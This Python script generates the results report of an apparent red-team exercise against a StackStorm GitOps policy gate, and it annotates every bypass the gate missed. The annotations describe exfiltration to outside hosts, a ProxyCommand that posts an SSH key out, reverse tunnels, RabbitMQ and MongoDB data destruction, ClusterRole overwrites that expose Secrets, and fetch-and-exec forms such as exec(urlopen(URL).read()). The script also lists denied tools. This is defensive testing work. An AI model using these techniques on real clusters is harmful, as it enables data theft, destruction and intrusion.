#!/usr/bin/env python3
"""Write /work/red14/final-results.md from verdicts.tsv, out/results.tsv, dropped.tsv."""
import csv, os, collections
ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
V = [r for r in csv.reader(open(os.path.join(ROOT, 'verdicts.tsv')), delimiter='\t')]
R = {r['id']: r for r in csv.DictReader(open(os.path.join(ROOT, 'out', 'results.tsv')), delimiter='\t')}
D = [r for r in csv.reader(open(os.path.join(ROOT, 'dropped.tsv')), delimiter='\t')]

# upstream fact / note per miss (id prefix match)
NOTES = {
    'crash-drop-secrets-conf': 'st2api loses `--config-file=/etc/st2/st2.secrets.conf`, the only prod file with the MongoDB username/password and the RabbitMQ URL: mongod runs with --keyFile (access control on), so st2api cannot authenticate, and `[messaging] url` falls back to st2\'s default amqp://guest:guest@127.0.0.1:5672. st2api crash-loops; the gate passes it.',
    'crash-register-no-secrets': 'same for the st2-register-content hook Job: no MongoDB credentials, `--register-fail-on-failure` makes the Job fail, packs/rules/actions never registered and the Argo CD sync fails on every run.',
    'crash-scheduler-no-secrets': 'same for st2scheduler (all 3 replicas): no execution is ever scheduled (st2 3.8 requires st2scheduler).',
    'crash-runner-no-docker-conf': 'st2actionrunner loses `--config-file=/etc/st2/st2.docker.conf`: no `[database] host` (st2 default 127.0.0.1), no `[coordination] url`, no `[keyvalue] encryption_key_path`: every runner crash-loops.',
    'crash-secret-mode-0400': 'Kubernetes Secret volume files are owned by root; with defaultMode 0400 the fsGroup (1000) gets no read bit. st2api runs as uid 1000 (`USER st2`, reference stackstorm-ha.md: "A config file mounted root-owned with mode 0400 is unreadable for them, and oslo.config aborts start-up on an unreadable --config-file (ConfigFilesPermissionDeniedError)"). The gate denies the fsGroup removal (ST2-OPS-030, crash-no-fsgroup) but not the mode change.',
    'trust-hook-rabbit-reset': 'RabbitMQ: `rabbitmqadmin delete queue` removes the queue and its messages. st2 keeps requested/scheduled executions (st2.actionrunner.req/.work), trigger instances (st2.trigger_instances_dispatch.rules_engine) and workflow work (st2.workflow.work) in durable queues (st2common/transport/queues.py); an Argo CD PostSync hook runs on every sync. The MongoDB/etcd equivalents are denied (ST2-OPS-046: dropDatabase, deleteMany, remove, pymongo drop_database, etcdctl del), the RabbitMQ ones are not.',
    'data-rabbit-purge-api': 'RabbitMQ management HTTP API `DELETE /api/queues/{vhost}/{name}/contents` purges a queue; the st2 queue names are from st2common/transport/queues.py (3.8.1).',
    'data-rabbit-vhost-delete': 'RabbitMQ: deleting a vhost deletes every queue, exchange, binding, message and every user permission on it; re-declaring it leaves admin without permissions, so st2 gets ACCESS_REFUSED on reconnect.',
    'data-mongo-restore-drop': 'mongorestore `--drop` drops each collection before restoring it from the archive: st2 collections (RBAC assignments, API keys, datastore, rules) replaced by the content of an archive fetched from an outside host on every sync.',
    'sec-rabbit-pw-od': 'documented limitation (blank-separated `od -An` bytes not decoded); the repository-published RabbitMQ password rebuilt with `xxd -r -p`.',
    'sec-xz-secret': 'documented limitation (xz not decoded); the repository-published MongoDB password in a production Secret.',
    'exf-mongodump-outside': 'mongodump/mongorestore: `mongorestore --uri mongodb://<outside host>` writes the full dump (st2 datastore incl. encrypted secret values, executions with parameters/results, API keys) to another server. The gate denies st2 `[database] host` on an outside host (ST2-OPS-013) but not a copy of the same data by a sidecar.',
    'exf-mongodump-s3': 'rclone `rcat` with an inline `:sftp,host=...:` remote uploads the mongodump stream to an outside host; rclone is not among the send programs the gate knows (curl, wget, nc, socat, openssl, rsync, git push, python smtplib/ftplib/http.client/socket are denied by ST2-SEC-016/017).',
    'exf-rabbit-export-defs': 'RabbitMQ management API GET /api/definitions returns users with password hashes, vhosts, permissions; python urllib.request.urlopen(url, data=...) POSTs them out. Python http.client/smtplib/socket with a file are denied; urllib with data built from another HTTP response is not.',
    'exp-chisel-reverse': 'chisel client `R:5672:localhost:5672` asks the outside chisel server to listen on 5672 and forward to the pod: RabbitMQ AMQP reachable from outside.',
    'exp-envoy-lb': 'documented limitation (Envoy clusters not followed): Envoy tcp_proxy to mongodb:27017 behind a public LoadBalancer.',
    'exp-gost': 'gost `-L rtcp://:2379/localhost:2379 -F relay+tls://<outside>`: remote TCP port forwarding, the outside relay listens on 2379 and forwards to etcd (no auth on etcd).',
    'exp-inlets': 'inlets-pro `tcp client --upstream localhost --port 27017`: the outside inlets exit server publishes MongoDB 27017.',
    'exp-localtunnel': 'localtunnel (`npx localtunnel --port 15672`) gives the RabbitMQ management UI/API a public https://*.loca.lt URL.',
    'exp-pagekite': 'pagekite.py `15672 <name>.pagekite.me` publishes the RabbitMQ management UI on a public name.',
    'exp-rathole': 'rathole client config `local_addr = 127.0.0.1:5672` with an outside `remote_addr`: the rathole server exposes AMQP publicly.',
    'exp-wstunnel': 'wstunnel `client -R tcp://0.0.0.0:27017:localhost:27017 wss://<outside>`: reverse tunnel, the outside server listens on 27017 for MongoDB. (ngrok, ssh -R, serveo, cloudflared, tailscale funnel, bore, frpc, zrok are denied by ST2-OPS-008.)',
    'priv-prod-basic-user': 'Kubernetes RBAC defaults: ClusterRole `system:basic-user` is bound to group `system:authenticated` by the default ClusterRoleBinding; with `rbac.authorization.kubernetes.io/autoupdate: "false"` the apiserver does not reconcile it (and reconciliation never removes added rules anyway). Rewriting it with secrets get/list lets every authenticated identity (every ServiceAccount of every namespace) read st2-prod Secrets. New ClusterRoles/bindings with the same rules are denied (ST2-OPS-006); overwriting a built-in role that is already bound is not.',
    'priv-prod-view-overwrite': 'same mechanism on the built-in ClusterRole `view`: every RoleBinding/ClusterRoleBinding to view (namespace viewers, dashboards, CI) starts reading Secrets. Aggregate-to-view ClusterRoles are denied (ST2-OPS-006); the overwrite is not.',
    'trust-dev-basic-user': 'as priv-prod-basic-user, from a dev render (cluster-scoped object acting on production, the thing ST2-OPS-020 is meant to stop).',
    'trust-dev-public-info': 'ClusterRole `system:public-info-viewer` is bound to `system:unauthenticated` and `system:authenticated` by default: rewriting it with secrets get/list from a dev render lets anonymous requests read production Secrets.',
    'trust-dev-edit': 'built-in ClusterRole `edit` rewritten to `*/*/*` from dev: every edit binding in every namespace becomes full namespace admin (RBAC, exec, secrets) incl. st2-prod.',
    'trust-dev-view': 'built-in ClusterRole `view` rewritten from dev (get/list/watch on */*, incl. Secrets).',
    'trust-staging-view': 'same from a staging render.',
    'trust-dev-ingressclass-default': 'IngressClass is cluster-scoped; ingress-nginx serves only Ingresses whose class names its controller (`k8s.io/ingress-nginx`). A dev render shipping IngressClass `nginx` with another controller takes production st2web (ingressClassName nginx) off the air. Only the default-class annotation is judged (ST2-OPS-041 denies trust-dev-ingressclass-default2).',
    'trust-staging-ingressclass-nginx': 'same from a staging render.',
    'rce-': 'Code fetched at start from an outside URL and executed, unpinned and unverified, in an init container of st2actionrunner with the shared packs volume mounted (the code can plant pack code the runner then loads; the runner runs as root with the SSH key, datastore key and st2.secrets.conf). `curl ... | sh`, `pip --index-url` and similar are denied (ST2-SEC-019/024); these interpreter forms are not.',
    'sup-pack-git-st2img': 'An unpinned clone (`--depth=1`, default branch) of a third-party pack repository into the packs volume every st2 service loads: whoever pushes to that repo runs code in production. The gate denies the identical clone from the alpine/git image (ST2-HRD-027 reason=fills-packs) but not from the st2actionrunner image (which ships git).',
    'sup-ssh-proxycommand': 'st2 3.8.1 `[ssh_runner] use_ssh_config` / `ssh_config_file_path` (st2common/config.py); ParamikoSSHClient._get_ssh_config_for_host passes the config\'s ProxyCommand to paramiko.ProxyCommand, which runs it as a subprocess for every remote action. The ProxyCommand (in a key of st2-config mounted into the runner) posts /home/stanley/.ssh/stanley_rsa (the key that logs into every managed host) to an outside host. The same trick through a Python logging fileConfig is denied (ST2-SEC-040).',
    'sup-python-urlopen-exec': 'as the rce- family: `exec(urllib.request.urlopen(URL).read())`.',
}


def note(cid):
    if cid in NOTES:
        return NOTES[cid]
    for k, v in NOTES.items():
        if k.endswith('-') and cid.startswith(k):
            return v
    return ''


tot = collections.Counter(); miss = collections.Counter()
stot = collections.Counter(); smiss = collections.Counter()
unsafe_allowed = []; safe_denied = []; bad_bad = []; leaks = []; unsafe_bad = []
for cid, exp, cls, reason in V:
    r = R.get(cid)
    ex = r['exit'] if r else 'not run'
    if r and r['leak'] not in ('-', ''):
        leaks.append((cid, r['leak']))
    if exp == 'deny':
        tot[cls] += 1
        if ex == '0':
            miss[cls] += 1; unsafe_allowed.append((cls, cid, reason))
        elif ex == '2':
            unsafe_bad.append((cls, cid, reason))
        elif r and int(r['stdout_bytes']):
            leaks.append((cid, 'stdout after deny'))
    elif exp == 'allow':
        stot[cls] += 1
        if ex != '0':
            smiss[cls] += 1; safe_denied.append((cls, cid, reason, r['deny_rules'] if r else ''))
    else:
        if ex != '2' or (r and int(r['stdout_bytes'])):
            bad_bad.append((cid, ex))
nu = sum(tot.values()); ns = sum(stot.values()); nb = sum(1 for v in V if v[1] == 'bad-input')
out = []
w = out.append
w('# red14 results: st2-gitops policy gate\n')
w('Generated by `gen/gen.py` (cases), `run.sh` (renders through `./dist/st2-gitops render`), `gen/final.py` (this file). Checkout: /work/red14/checkout (unchanged gate).\n')
w('## Headline\n')
w('| measure | result |\n|---|---|')
w(f'| unsafe allowed | **{len(unsafe_allowed)} / {nu}** |')
w(f'| safe denied | **{len(safe_denied)} / {ns}** |')
w(f'| bad input mishandled | {len(bad_bad)} / {nb} |')
w(f'| unsafe refused as bad input (exit 2) | {len(unsafe_bad)} |')
w(f'| planted-secret leaks (stderr, stdout after deny) | {len(leaks)} |')
w(f'| cases dropped on reflection (not counted) | {len(D)} |\n')
w('## The holes, by family\n')
w('1. **An st2 service started without its credential/config file** (4): removing `--config-file=/etc/st2/st2.secrets.conf` (st2api, st2scheduler, the st2-register-content hook) or `st2.docker.conf` (st2actionrunner) leaves st2 with no MongoDB credentials or host: crash-loop / failed sync. The gate reads each chain for auth/RBAC/hosts but does not require the chain to still contain the credentials.')
w('2. **RabbitMQ data destruction and MongoDB replacement** (4): rabbitmqadmin `delete queue`/`delete vhost`, the management API purge, and `mongorestore --drop` from an outside archive in Argo CD hooks. The MongoDB/etcd deletes (dropDatabase, deleteMany, remove, pymongo, etcdctl del) are denied.')
w('3. **Exfiltration the send-program list does not know** (4): mongodump piped to `mongorestore --uri <outside>`, rclone rcat to an inline sftp remote, python urllib POSTing data read from the RabbitMQ management API (a file read is caught), and a paramiko ProxyCommand from st2\'s own `[ssh_runner] ssh_config_file_path`.')
w('4. **Reverse tunnels beyond the known list** (7, plus Envoy documented): chisel, gost, inlets, localtunnel, pagekite, rathole, wstunnel (ngrok, ssh -R, serveo, cloudflared, tailscale funnel, bore, frpc, zrok are denied).')
w('5. **Overwriting built-in ClusterRoles** (7): `view`, `edit`, `system:basic-user`, `system:public-info-viewer` rewritten (autoupdate false) from dev, staging or prod renders. New roles/bindings/aggregations with the same rights are denied; rewriting a role that is already bound to everyone is not.')
w('6. **Fetch-and-exec in an interpreter** (9): python exec(urlopen/requests), node fetch+eval, perl HTTP::Tiny eval, `bash -c "$(curl ...)"`, `source <(curl ...)`, python-printed script piped to sh, and an unpinned `git clone` with the st2actionrunner image, all into the shared packs volume (curl|sh, pip indexes, git config redirects are denied).')
w('7. **Documented encodings** (2): xz, `od -An` blank-separated bytes.\n')
w('## By class\n')
w('| class | unsafe cases | unsafe allowed |\n|---|---|---|')
for c in sorted(tot):
    w(f'| {c} | {tot[c]} | {miss[c]} |')
w(f'| safe look-alikes | {ns} | denied: {len(safe_denied)} |')
w(f'| bad input | {nb} | mishandled: {len(bad_bad)} |\n')
w('## Every miss: unsafe allowed\n')
w('Each was checked to land: the rendered stream (exit 0) contains the patched flag/object. Harm and the upstream fact are in the two right columns.\n')
w('| class | id | harm | upstream fact / why it is a miss |\n|---|---|---|---|')
for cls, cid, reason in sorted(unsafe_allowed):
    w(f'| {cls} | `{cid}` | {reason} | {note(cid)} |')
w('\n## Every miss: safe denied\n')
if safe_denied:
    w('| class | id | change | gate said |\n|---|---|---|---|')
    for cls, cid, reason, rules in safe_denied:
        w(f'| {cls} | `{cid}` | {reason} | {rules} |')
else:
    w('None. (One first-draft safe case, an init container using the third-party `curlimages/curl` image to fill the packs volume, was denied by ST2-HRD-027 "image from an unlisted publisher given st2 code"; on reflection that is a defensible policy, so the case was rewritten to use the st2actionrunner image and is now allowed.)')
if bad_bad:
    w('\n## Bad input mishandled\n')
    for cid, ex in bad_bad:
        w(f'- `{cid}`: exit {ex}')
if unsafe_bad:
    w('\n## Unsafe refused as bad input\n')
    for cls, cid, reason in unsafe_bad:
        w(f'- `{cid}` ({cls}): {reason}')
if leaks:
    w('\n## Leaks\n')
    for cid, l in leaks:
        w(f'- `{cid}`: {l}')
w('\n## Reproduce\n')
w('`python3 gen/gen.py && bash run.sh /work/red14/checkout && python3 report.py && python3 gen/final.py` (about 2 minutes, sequential).')
w('\n## Dropped on reflection (not counted)\n')
w('| id | class | why dropped |\n|---|---|---|')
for cid, cls, why in D:
    w(f'| `{cid}` | {cls} | {why} |')
w('\n## Cases I first counted as misses and corrected\n')
w('- The first `--config-dir` RBAC cases mounted the whole st2-config ConfigMap as the directory with the override in `local.conf`: oslo.config parses the directory sorted, so `st2.docker.conf` (`[rbac] enable = True`, `backend = default`) came after it and won; the gate allowed them correctly. Renamed to `zz-local.conf` they are denied (ST2-HRD-005).')
w('- Several added containers were first denied only for missing resource limits (ST2-HRD-002), unrelated to the attack; every added container now carries requests/limits.')
w('\n## What held (selection)\n')
w('Denied as it should be, often through several rules: `--config-dir`/`--config-file` (`=`, two-argument and argparse-abbreviated forms, also a *.conf sorted after st2.docker.conf) carrying `[auth]`/`[rbac]` off, proxy mode, an outside broker/DB, pip_opts, timers off, file:// coordination or mask_secrets off; st2 `[rbac] backend = noop` in st2.user.conf, oslo bool spellings (`enable = n`, `0`), `--config-dir`/`--config-file` two-arg and argparse-abbreviated forms for `[auth]`, pip/git/pack-index supply chain by env, config file and st2 option, sitecustomize/.pth/logging fileConfig eval, DNS resolver hijack (dnsPolicy None/Default + searches), hand-written EndpointSlice, PushSecret, ESO sprig tricks (htpasswd, replace, trunc, substr, join, regexReplaceAll, dict/get, fromJson, range, templateFrom), UTF-16/fullwidth encodings, Argo Rollouts workloadRef, runpy/importlib/`python -c import` singletons, timers `enable = False`, RabbitMQ watermark/disk/partition/max_message_size, RabbitMQ 4.0 and mongo 6.0 jumps, --nojournal, --transitionToAuth, etcd quota / 3.6, tooz file:// and zake://, Service/LB source-range splits and ::/0, ngrok/ssh -R/cloudflared/tailscale/bore/frp/serveo tunnels, socat/HAProxy/nginx/python forwarders, aggregated ClusterRoles, impersonate/escalate/ephemeralcontainers/token/CSR/nodes-proxy rights, dev PriorityClass/StorageClass default/CRD/ClusterIssuer/ClusterSecretStore/APIService overwrites.\n')
open(os.path.join(ROOT, 'final-results.md'), 'w').write('\n'.join(out) + '\n')
print('\n'.join(out[:20]))
